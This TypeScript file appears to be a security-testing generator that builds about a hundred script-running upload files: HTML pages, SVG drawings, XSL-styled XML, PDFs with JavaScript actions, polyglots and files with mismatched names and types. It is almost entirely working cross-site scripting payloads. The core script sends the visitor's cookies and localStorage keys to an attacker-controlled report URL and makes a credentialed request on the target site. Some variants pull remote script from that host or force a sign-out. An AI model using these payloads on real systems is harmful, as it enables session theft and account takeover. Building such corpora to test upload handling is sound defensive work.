/** A file that tries to run script. */
export interface ActiveFile {
  readonly name: string;
  /** The media type claimed by the uploader. */
  readonly type: string;
  readonly content: string | Uint8Array;
}

/** The URLs that the scripts use. */
export interface AttackTargets {
  /** The attacker's server, to which scripts report that they ran. */
  readonly reportUrl: string;
  /** The attacked instance. */
  readonly siteUrl: string;
}

/**
 * A hundred files that run script in some browser or other program: HTML, SVG, XML with style
 * sheets, PDFs, files with a wrong type or extension, and polyglots.
 */
export function activeFiles(targets: AttackTargets): ActiveFile[] {
  const script = attackScript(targets);
  const pages = pagesOf(script, targets);
  const [page = ""] = pages;
  const drawings = drawingsOf(script);
  const [drawing = ""] = drawings;
  const files: ActiveFile[] = [
    ...pages.map((content, at) => ({ name: `page-${at}.html`, type: "text/html", content })),
    ...drawings.map((content, at) => ({
      name: `drawing-${at}.svg`,
      type: "image/svg+xml",
      content,
    })),
    ...documentsOf(script),
    // The name, the content and the claimed type contradict each other.
    ...[
      "htm",
      "xhtml",
      "xht",
      "shtml",
      "hta",
      "mht",
      "mhtml",
      "eml",
      "txt",
      "md",
      "csv",
      "json",
      "css",
      "ics",
      "vtt",
      "jpg",
      "png",
      "gif",
      "pdf",
      "mp4",
      "zip",
      "bin",
      "unknown",
      "html.jpg",
      "php",
      "jsp",
      "url",
      "webmanifest",
      "wasm",
      "HTML",
    ].map((extension) => ({ name: `confused.${extension}`, type: "text/html", content: page })),
    ...[
      "text/html",
      "text/html;charset=utf-7",
      "application/xhtml+xml",
      "image/svg+xml",
      "text/xml",
      "application/xml",
      "application/rss+xml",
      "multipart/x-mixed-replace",
      "message/rfc822",
      "text/xsl",
      "application/x-shockwave-flash",
      "text/javascript",
    ].map((type, at) => ({
      name: `claimed-${at}`,
      type,
      content: type.includes("svg") ? drawing : page,
    })),
    ...[
      ["gif", "GIF89a/*"],
      ["bmp", "BM"],
      ["jpg", "\xff\xd8\xff\xe0"],
      ["png", "\x89PNG\r\n\x1a\n"],
      ["pdf", "%PDF-1.4\n"],
      ["zip", "PK\x03\x04"],
      ["mp3", "ID3"],
      ["html", "\x00\x00\x00"],
      ["txt", "\xef\xbb\xbf"],
      ["ico", "\x00\x00\x01\x00"],
    ].map(([extension = "", start = ""]) => ({
      name: `two-things.${extension}`,
      type: "text/html",
      content: Buffer.concat([Buffer.from(start, "latin1"), Buffer.from(page)]),
    })),
    {
      name: "wide.html",
      type: "text/html;charset=utf-16",
      content: Buffer.from(`\ufeff${page}`, "utf16le"),
    },
    {
      name: "seven.html",
      type: "text/html;charset=utf-7",
      content: `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
    },
  ];
  return files;
}

/** A script that reports what it can read, and creates a folder with the visitor's session. */
export const attackScript = ({ reportUrl, siteUrl }: AttackTargets): string =>
  `(function(){var c="";try{c=document.cookie}catch(e){}try{c+=Object.keys(localStorage)}catch(e){}fetch("${reportUrl}/ran?from="+encodeURIComponent(self.origin+" "+location.href+" "+c));fetch("${siteUrl}/api/folders",{method:"POST",credentials:"include",headers:{"Content-Type":"application/json"},body:'{"folder":"taken-over"}'})})()`;

function pagesOf(script: string, { reportUrl, siteUrl }: AttackTargets): string[] {
  const inAttribute = script.replaceAll('"', "&quot;");
  const encoded = encodeURIComponent(`<script>${script}</script>`);
  return [
    `<!doctype html><script>${script}</script>`,
    `<img src=x onerror="${inAttribute}">`,
    `<body onload="${inAttribute}">`,
    `<input autofocus onfocus="${inAttribute}">`,
    `<details open ontoggle="${inAttribute}">`,
    `<video><source onerror="${inAttribute}"></video>`,
    `<iframe srcdoc="${`<script>${script}</script>`.replaceAll('"', "&quot;")}"></iframe>`,
    `<iframe src="javascript:${inAttribute}"></iframe>`,
    `<iframe src="data:text/html,${encoded}"></iframe>`,
    `<meta http-equiv=refresh content="0;url=javascript:${inAttribute}">`,
    `<meta http-equiv=refresh content="0;url=data:text/html,${encoded}">`,
    `<object data="data:text/html,${encoded}"></object>`,
    `<embed src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`)}">`,
    `<script src="${reportUrl}/script.js"></script>`,
    `<script type=module>import "${reportUrl}/script.js"</script>`,
    `<script>navigator.serviceWorker.register("/api/hosting/active/worker.js")</script><script>${script}</script>`,
    `<meta http-equiv=Content-Security-Policy content="sandbox allow-scripts allow-same-origin"><script>${script}</script>`,
    `<base href="${reportUrl}/"><script src="script.js"></script>`,
    `<form id=f method=post action="${siteUrl}/auth/sign-out"></form><script>f.submit()</script><script>${script}</script>`,
    `<svg><script>${script}</script></svg>`,
    `<math><annotation-xml encoding="text/html"><script>${script}</script></annotation-xml></math>`,
    `<template shadowrootmode=open><script>${script}</script></template><div><template shadowrootmode=open><img src=x onerror="${inAttribute}"></template></div>`,
    `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart="${inAttribute}">x`,
    `<noscript><p title="</noscript><img src=x onerror=${inAttribute}>"></noscript>`,
    `<frameset onload="${inAttribute}"><frame></frameset>`,
  ];
}

function drawingsOf(script: string): string[] {
  const inAttribute = script.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
  const svg = (inner: string, attributes = ""): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" ${attributes}>${inner}</svg>`;
  return [
    svg(`<script><![CDATA[${script}]]></script>`),
    svg("", `onload="${inAttribute}"`),
    svg(
      `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${inAttribute}"><script><![CDATA[${script}]]></script></body></foreignObject>`,
    ),
    svg(`<animate attributeName="x" onbegin="${inAttribute}" dur="1s"/>`),
    svg(`<image href="x" onerror="${inAttribute}"/>`),
    svg(
      `<set attributeName="onmouseover" to="${inAttribute}"/><script><![CDATA[${script}]]></script>`,
    ),
    svg(
      `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${inAttribute}</handler><script href="data:text/javascript,${encodeURIComponent(script)}"/>`,
    ),
    svg(
      `<style>@import "data:text/css,*{x:y}"</style><script xlink:href="data:text/javascript,${encodeURIComponent(script)}"/>`,
    ),
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s "<script xmlns='http://www.w3.org/2000/svg'>${inAttribute}</script>">]>${svg("&s;")}`,
  ];
}

function documentsOf(script: string): ActiveFile[] {
  const inText = script.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
  const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${inText}</script></body></html></xsl:template></xsl:stylesheet>`;
  const xhtml = `<html xmlns="http://www.w3.org/1999/xhtml"><script>${inText}</script></html>`;
  return [
    { name: "style.xsl", type: "text/xsl", content: sheet },
    {
      name: "styled.xml",
      type: "text/xml",
      content: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><a/>',
    },
    {
      name: "styled-by-data.xml",
      type: "text/xml",
      content: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(sheet)}"?><a/>`,
    },
    {
      name: "styled-by-itself.xml",
      type: "text/xml",
      content: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>${sheet.replace("<xsl:stylesheet", '<xsl:stylesheet id="s"')}`,
    },
    { name: "page.xml", type: "text/xml", content: xhtml },
    {
      name: "feed.rss",
      type: "application/rss+xml",
      content: `<rss><channel><title>${xhtml}</title></channel></rss>`,
    },
    {
      name: "feed.atom",
      type: "application/atom+xml",
      content: `<feed xmlns="http://www.w3.org/2005/Atom"><title type="xhtml">${xhtml}</title></feed>`,
    },
    {
      name: "formula.mml",
      type: "application/mathml+xml",
      content: `<math xmlns="http://www.w3.org/1998/Math/MathML">${xhtml}</math>`,
    },
    { name: "worker.js", type: "text/javascript", content: script },
    { name: "module.mjs", type: "text/javascript", content: script },
    {
      name: "opening.pdf",
      type: "application/pdf",
      content: pdfOf(`<< /S /JavaScript /JS (${script.replace(/[()\\]/g, "\\$&")}) >>`),
    },
    {
      name: "link.pdf",
      type: "application/pdf",
      content: pdfOf(`<< /S /URI /URI (javascript:${script.replace(/[()\\]/g, "\\$&")}) >>`),
    },
  ];
}

function pdfOf(action: string): string {
  return `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction ${action} >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF`;
}
